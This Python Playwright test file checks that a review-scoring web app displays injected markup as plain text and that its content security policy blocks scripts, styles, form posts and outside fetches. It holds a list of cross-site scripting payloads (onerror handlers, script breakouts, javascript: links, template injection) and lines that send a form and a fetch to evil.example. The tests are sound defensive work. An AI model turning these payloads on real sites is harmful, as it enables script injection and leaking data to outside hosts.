"""Whatever people paste, drop or send back is shown as text, and runs nothing; the policy would stop it, too."""

import csv
import io
from collections.abc import Callable

import pytest
from playwright.sync_api import Route, expect

from tests.browser.chromium import Visit
from tests.servers import Server

ATTACKS = [
    '<img src=x onerror="window.hacked=1;alert(1)"> superb',
    "</script><script>window.hacked=1</script> superb",
    "</textarea></p><svg/onload=window.hacked=1> superb",
    "<a href='javascript:window.hacked=1'>superb</a> moving",
    "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} superb",
    "superb <iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<style>*{display:none}</style> superb <base href='http://evil.example/'>",
]


def unharmed(visit: Visit) -> None:
    """Nothing ran, and nothing became an element; `visiting` sees dialogs and requests to others."""
    assert visit.page.evaluate("typeof window.hacked") == "undefined"
    assert visit.page.locator("main :is(script, iframe, svg, base, style, a)").count() == 0
    assert visit.page.locator("main img:not([id^=plot-])").count() == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_a_review_is_text(visit: Visit, attack: str) -> None:
    visit.ask(attack)
    visit.words.locator("mark").first.hover()
    expect(visit.numbers).to_be_visible()
    visit.page.get_by_text("Show them").click()
    assert visit.words.text_content() == attack
    unharmed(visit)


def test_markup_in_a_file_is_text(visit: Visit) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["review"], *([attack] for attack in ATTACKS)])
    visit.drop("<img src=x onerror=window.hacked=1>.csv", text.getvalue())
    visit.scored()
    assert [row[1] for row in visit.rows()] == ATTACKS
    expect(visit.page.locator("#batch-status")).to_contain_text("<img src=x onerror=window.hacked=1>.csv")
    for heading in visit.page.locator("#results thead button").all():
        heading.click()
    unharmed(visit)


def test_markup_in_a_file_that_cannot_be_used_is_text(visit: Visit) -> None:
    visit.drop(f"{ATTACKS[0].replace('/', '')}.csv", f'"{ATTACKS[1]}",b\n1,2\n')
    expect(visit.page.locator("#file-problem p")).to_contain_text(ATTACKS[1][:30])
    unharmed(visit)


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_in_an_answer_is_text(visit: Visit, attack: str) -> None:
    """Should the service, or something before it, ever send such things back."""
    headers = {"Content-Type": "application/problem+json", "X-Request-ID": attack.replace("\n", "")}
    visit.page.route(
        "**/explain", lambda route: route.fulfill(status=500, headers=headers, json={"detail": attack, "title": attack})
    )
    visit.write("superb")
    expect(visit.problem).to_contain_text(attack)
    unharmed(visit)
    answer = {
        "positive_probability": 0.9,
        "words": 5,
        "known_words": 5,
        "terms": [
            {
                "term": attack,
                "log_odds": 1,
                "probability": 0.1,
                "positive_probability_without": 0.8,
                "occurrences": [{"start": 0, "end": 6}],
            }
        ],
        "unknown_words": [],
    }
    visit.page.unroute("**/explain")
    visit.page.route("**/explain", lambda route: route.fulfill(json={"explanations": [answer]}))
    visit.write("superb film")
    expect(visit.page.locator("#terms")).to_contain_text(attack)
    visit.words.locator("mark").first.hover()
    expect(visit.numbers).to_contain_text(attack)
    unharmed(visit)


def test_markup_in_the_model_is_text(visits: Callable[..., Visit], served: Server) -> None:
    visit = visits(served.url)

    def rename(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, json=answer.json() | {"name": ATTACKS[0], "recipe": {"name": ATTACKS[1]}})

    visit.page.route("**/model", rename)
    visit.open()
    expect(visit.page.locator("#facts")).to_contain_text(ATTACKS[0])
    expect(visit.page.locator("#facts")).to_contain_text(ATTACKS[1])
    unharmed(visit)


def test_policy_stops_scripts_and_styles_within_the_page(visits: Callable[..., Visit], served: Server) -> None:
    """Should anything ever get in; also what would send something elsewhere."""
    visit = visits(served.url)
    visit.open()
    visit.page.evaluate(
        """() => {
            const frame = document.createElement("div");
            frame.innerHTML = `<img src="x" onerror="window.hacked=1"><p style="color:red">x</p>
                <iframe srcdoc="<script>parent.hacked=1</script>"></iframe><style>p{color:red}</style>
                <form action="http://evil.example/"><input></form>`;
            document.body.append(frame);
            const script = document.createElement("script");
            script.textContent = "window.hacked=1";
            document.body.append(script);
            frame.querySelector("form").submit();
        }"""
    )
    assert visit.page.evaluate("fetch('http://evil.example/').then(() => 1, () => 0)") == 0
    visit.page.wait_for_timeout(200)
    assert visit.page.evaluate("typeof window.hacked") == "undefined"
    told = " ".join(visit.complaints)
    for directive in ("script-src", "style-src", "form-action", "connect-src"):
        assert directive in told
    visit.complaints.clear()
